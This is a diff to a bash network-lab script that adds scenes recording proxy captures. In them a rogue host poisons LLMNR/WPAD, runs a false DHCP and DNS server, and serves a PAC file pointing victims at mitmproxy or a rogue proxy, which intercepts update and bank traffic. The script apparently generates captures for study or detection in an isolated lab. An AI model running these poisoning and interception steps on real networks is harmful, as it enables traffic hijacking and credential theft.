@@ -1,6 +1,6 @@
 #!/usr/bin/env bash
 # Records captures/proxies: who is used as a proxy, and what it does. Usage: proxies.sh [SCENE...]; without arguments all scenes.
-# Packages: lab.sh's, and dnsmasq-base isc-dhcp-client nginx-light curl squid python3 python3-scapy.
+# Packages: lab.sh's, and dnsmasq-base isc-dhcp-client nginx-light curl squid python3 python3-scapy mitmproxy chromium bind9-dnsutils.
 . "$(dirname "$0")/lab.sh"
 
 office() {
@@ -133,6 +133,60 @@ CONF
   try pc curl -s -m 3 -H 'Host: download.windowsupdate.com' http://10.5.0.9/v9/wuident.cab
   for _ in 1 2 3; do try gw curl -s -m 3 --request-target http://app.corp.example/ -H 'Host: app.corp.example' http://10.5.0.5/; done
   through lap -x http://10.5.0.9:8080 http://download.windowsupdate.com/c/update.cab
+}
+
+# mitmproxy as the lured client's proxy: it shows a certificate of its own for the update host.
+scene_mitmproxy() {
+  office; rogue
+  python rogue poisoner.py 10.5.0.66 --only wpad
+  pac "$lab_tmp/www/wpad.dat" 10.5.0.66:8080; web rogue "$lab_tmp/www"
+  mkdir -p "$lab_tmp/home"
+  daemon rogue env HOME="$lab_tmp/home" mitmdump -q -p 8080 --set confdir="$lab_tmp/home" --set connection_strategy=lazy --set upstream_cert=false
+  pause 4
+  record_start
+  try pc python3 "$make_dir/ask.py" llmnr wpad
+  windows pc wpad http://10.5.0.66/wpad.dat
+  through pc -x http://10.5.0.66:8080 --tls-max 1.2 -A 'Windows-Update-Agent' https://fe2.update.microsoft.com/v6/
+  through pc -x http://10.5.0.66:8080 https://www.bank.example/
+}
+
+# browse_by HOST RESOLVER URL: Chromium as Windows users have it, looking for its proxy by itself.
+browse_by() {
+  printf 'search corp.example\nnameserver %s\noptions timeout:1 attempts:1\n' "$2" >"$lab_tmp/$1.resolv"
+  on "$1" timeout -k 2 25 unshare -m sh -c 'mount --bind "$1" /etc/resolv.conf; shift; exec chromium "$@"' sh "$lab_tmp/$1.resolv" --headless --no-sandbox --disable-gpu \
+    --no-first-run --disable-background-networking --disable-component-update --disable-sync --user-data-dir="$lab_tmp/$1.chromium" --proxy-auto-detect \
+    --timeout=8000 --dump-dom "$3" >"$lab_tmp/$1.page" 2>/dev/null || true
+}
+
+# Chromium looks for wpad; the resolver that a false DHCP server gave is the attacker's, as are the PAC and the proxy.
+scene_chromium_lured() {
+  lab_host gw 3c:52:82:11:00:01 10.5.0.1/24
+  lab_host pc 3c:52:82:11:00:21
+  lab_host lap 3c:52:82:11:00:22
+  rogue
+  dns_dhcp gw --dhcp-range=10.5.0.100,10.5.0.120,1h --domain=corp.example
+  pac "$lab_tmp/www/wpad.dat" 10.5.0.66:3141; web rogue "$lab_tmp/www"
+  python rogue rogue_proxy.py 3141 http
+  pause 1
+  record_start
+  lease lap
+  dns_dhcp rogue --dhcp-range=10.5.0.200,10.5.0.210,2m --dhcp-option=3,10.5.0.1 --domain=corp.example --address=/wpad.corp.example/10.5.0.66 --address=/#/192.0.2.80
+  pause 1
+  lease pc
+  try pc ip addr add 10.5.0.21/24 dev eth0
+  browse_by pc 10.5.0.66 http://intranet.corp.example/
+}
+
+# Chromium finds the company's PAC by the company's resolver, and uses the company's squid.
+scene_chromium_office() {
+  office
+  dns_dhcp gw --address=/wpad.corp.example/10.5.0.8 --address=/intranet.corp.example/10.5.0.5
+  pac "$lab_tmp/www/wpad.dat" 10.5.0.8:3128; web proxy "$lab_tmp/www"
+  mkdir -p "$lab_tmp/intranet"; echo '<html>intranet</html>' >"$lab_tmp/intranet/index.html"; web web "$lab_tmp/intranet"
+  squid_on proxy "dns_nameservers 10.5.0.1"
+  record_start
+  browse_by pc 10.5.0.1 http://intranet.corp.example/
+  browse_by lap 10.5.0.1 http://intranet.corp.example/
 }
 
 run_scenes proxies "$@"
